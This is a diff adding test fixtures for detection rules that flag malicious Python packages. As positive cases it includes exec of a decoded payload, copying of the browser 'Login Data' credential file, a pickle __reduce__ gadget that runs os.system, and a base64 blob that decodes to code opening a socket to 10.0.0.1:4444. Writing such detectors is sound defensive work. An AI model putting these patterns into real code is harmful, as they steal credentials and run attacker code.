@@ -96,3 +96,39 @@ def reflect():
 OOO0O0OOOOO000oOo = __import__("\x7a\x6c\x69\x62")
 # ok: package.py.obfuscated
 ZLIB = __import__("zlib")
+
+
+def decoded():
+    # ruleid: package.py.decoded-exec
+    exec(zlib_decode_payload(blob))
+    # ok: package.py.decoded-exec
+    exec(compile_template(source))
+
+
+def stealer():
+    import shutil, sqlite3
+    # ruleid: package.py.browser-credentials
+    shutil.copy(profile + "/Login Data", "/tmp/ld")
+    # ok: package.py.browser-credentials
+    shutil.copy("data/login.json", "/tmp/x")
+
+
+class Gadget:
+    def __reduce__(self):
+        # ruleid: package.py.pickle-gadget
+        return (os.system, ("id",))
+
+
+class Plain:
+    def __reduce__(self):
+        # ok: package.py.pickle-gadget
+        return (Plain, ())
+
+
+def blob():
+    exec(
+        # ruleid: package.py.encoded-blob-exec
+        "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk7IGltcG9ydCBzb2NrZXQ7IHMgPSBzb2NrZXQuc29ja2V0KCk7IHMuY29ubmVjdCgoJzEwLjAuMC4xJywgNDQ0NCkp"
+    )
+    # ok: package.py.encoded-blob-exec
+    label = "short-text"
